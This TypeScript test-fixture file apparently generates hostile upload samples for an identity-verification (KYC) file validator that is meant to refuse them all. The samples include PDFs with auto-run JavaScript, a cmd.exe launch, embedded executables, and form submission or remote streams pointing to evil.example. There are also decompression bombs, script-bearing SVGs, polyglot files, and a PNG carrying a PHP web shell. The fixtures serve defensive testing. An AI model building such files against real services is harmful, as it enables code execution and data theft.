import { gzipSync } from 'node:zlib'
import {
  chunk,
  JS,
  jpegOf,
  MB,
  pdfWith,
  picture,
  pngClaiming,
  type SampleFile,
  text,
  with_,
  zipOf,
} from './kyc-file-parts.ts'
import { flate, objectStream, PAGE, pdfOf, streamOf } from './sample-pdf.ts'

/** PDFs of one empty page that do, hold or are something else besides. */
export const activePdfs = (): SampleFile[] => [
  { what: 'a script on opening', name: 'a.pdf', content: pdfWith(`/OpenAction ${JS}`) },
  {
    what: 'a script in an object stream',
    name: 'b.pdf',
    content: pdfWith('/OpenAction 9 0 R', objectStream(8, [{ number: 9, value: JS }])),
  },
  {
    what: 'a program to start',
    name: 'c.pdf',
    content: pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>'),
  },
  {
    what: 'an attached file',
    name: 'd.pdf',
    content: pdfWith(
      '/Names << /EmbeddedFiles << /Names [(x) 9 0 R] >> >>',
      { number: 9, value: '<< /Type /Filespec /F (x.exe) /EF << /F 8 0 R >> >>' },
      streamOf(8, 'MZ', '/Type /EmbeddedFile'),
    ),
  },
  {
    what: 'a form program (XFA)',
    name: 'e.pdf',
    content: pdfWith('/AcroForm << /XFA 9 0 R >>', streamOf(9, '<xdp/>')),
  },
  {
    what: 'a form that sends itself',
    name: 'f.pdf',
    content: pdfWith('/OpenAction << /S /SubmitForm /F (https://evil.example) >>'),
  },
  { what: 'actions of a page', name: 'g.pdf', content: pdfWith(`/AA << /WC ${JS} >>`) },
  {
    what: 'a stream of another file',
    name: 'h.pdf',
    content: with_(streamOf(9, '', '/F (//evil.example/share)')),
  },
  {
    what: 'a bomb that no page shows',
    name: 'i.pdf',
    content: with_(...Array.from({ length: 3 }, (_, n) => flate(9 + n, Buffer.alloc(45 * MB)))),
  },
  {
    what: 'an archive behind it',
    name: 'j.pdf',
    content: Buffer.concat([pdfOf(PAGE), zipOf('x.exe', text('MZ'))]),
  },
  {
    what: 'an older revision with a script',
    name: 'k.pdf',
    content: Buffer.concat([
      pdfOf([...PAGE, { number: 9, value: JS }]),
      text('9 0 obj\nnull\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'),
    ]),
  },
]

const pages = (count: number, box: string): Buffer =>
  pdfOf([
    { number: 1, value: '<< /Type /Catalog /Pages 2 0 R >>' },
    { number: 2, value: `<< /Type /Pages /Kids [${'3 0 R '.repeat(count)}] /Count ${count} >>` },
    { number: 3, value: `<< /Type /Page /Parent 2 0 R /MediaBox ${box} >>` },
  ])

const hostilePdfs = (): SampleFile[] => [
  {
    what: 'a lock of another program',
    name: 'b.pdf',
    content: pdfOf(PAGE, '/Root 1 0 R /Encrypt << /Filter /Foreign >>'),
  },
  { what: 'eleven pages', name: 'c.pdf', content: pages(11, '[0 0 200 200]') },
  { what: 'a hundred thousand pages', name: 'd.pdf', content: pages(100_000, '[0 0 200 200]') },
  { what: 'no page', name: 'e.pdf', content: pages(0, '[0 0 200 200]') },
  { what: 'a cut-off end', name: 'f.pdf', content: pdfOf(PAGE).subarray(0, 200) },
  { what: 'only a header', name: 'g.pdf', content: text('%PDF-1.7\n%%EOF\n') },
  {
    what: 'something before the header',
    name: 'h.pdf',
    content: Buffer.concat([text('<html>'), pdfOf(PAGE)]),
  },
]

const hostilePictures = async (): Promise<SampleFile[]> => {
  const jpeg = await jpegOf()
  const png = await picture().png().toBuffer()
  const webp = await picture().webp().toBuffer()
  return [
    {
      what: 'a page under the name of a picture',
      name: 'a.png',
      content: text('<html><script>alert(1)</script></html>'),
    },
    {
      what: 'SVG',
      name: 'b.svg',
      content: text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    },
    {
      what: 'SVG under the name of a PNG',
      name: 'c.png',
      content: text('<?xml version="1.0"?><svg onload="x"/>'),
    },
    { what: 'a GIF', name: 'd.gif', content: await picture().gif().toBuffer() },
    { what: 'a TIFF under the name of a JPEG', name: 'e.jpg', content: await picture().tiff().toBuffer() },
    { what: 'an archive', name: 'f.zip', content: zipOf('x.exe', text('MZ')) },
    { what: 'a packed bomb', name: 'g.png', content: gzipSync(Buffer.alloc(50 * MB)) },
    { what: 'a program', name: 'h.jpg', content: Buffer.concat([text('MZ'), Buffer.alloc(400)]) },
    { what: 'nothing', name: 'i.png', content: Buffer.alloc(0) },
    { what: 'only a head', name: 'j.jpg', content: jpeg.subarray(0, 20) },
    { what: 'half a JPEG', name: 'k.jpg', content: jpeg.subarray(0, Math.floor(jpeg.length / 2)) },
    { what: 'half a PNG', name: 'l.png', content: png.subarray(0, Math.floor(png.length / 2)) },
    { what: 'half a WebP', name: 'm.webp', content: webp.subarray(0, Math.floor(webp.length / 2)) },
    { what: 'a PNG of 900 million pixels', name: 'n.png', content: pngClaiming(30_000, 30_000, 1000) },
    {
      what: 'a PNG that claims the largest size',
      name: 'o.png',
      content: pngClaiming(0x7fffffff, 0x7fffffff, 1000),
    },
    { what: 'a PNG that packs far less than it claims', name: 'p.png', content: pngClaiming(4000, 4000, 10) },
    { what: 'a PNG without a pixel', name: 'q.png', content: pngClaiming(0, 0, 0) },
    {
      what: 'a JPEG with an archive behind it',
      name: 'r.jpg',
      content: Buffer.concat([jpeg, zipOf('x.exe', text('MZ'))]),
    },
    {
      what: 'a JPEG with a script behind it',
      name: 's.jpg',
      content: Buffer.concat([jpeg, text('<script>alert(1)</script>')]),
    },
    {
      what: 'a PNG with a program in its text',
      name: 't.png',
      content: Buffer.concat([
        png.subarray(0, 33),
        chunk('tEXt', text('Comment\0<?php system($_GET[1]); ?>')),
        png.subarray(33),
      ]),
    },
    {
      what: 'a JPEG that is a PDF too',
      name: 'u.jpg',
      content: Buffer.concat([
        jpeg.subarray(0, 2),
        text('\xff\xfe\x00\x10%PDF-1.7\n1234'),
        jpeg.subarray(2),
        pdfOf(PAGE),
      ]),
    },
    {
      what: 'noise behind a JPEG’s first bytes',
      name: 'v.jpg',
      content: Buffer.concat([text('\xff\xd8\xff\xe0'), Buffer.alloc(3000, 0x5a)]),
    },
    {
      what: 'noise behind a WebP’s first bytes',
      name: 'w.webp',
      content: Buffer.concat([text('RIFF\x10\0\0\0WEBPVP8 '), Buffer.alloc(300, 7)]),
    },
  ]
}

/** Every one must be refused. */
export const hostileFiles = async (): Promise<SampleFile[]> => [
  ...hostilePdfs(),
  ...(await hostilePictures()),
]
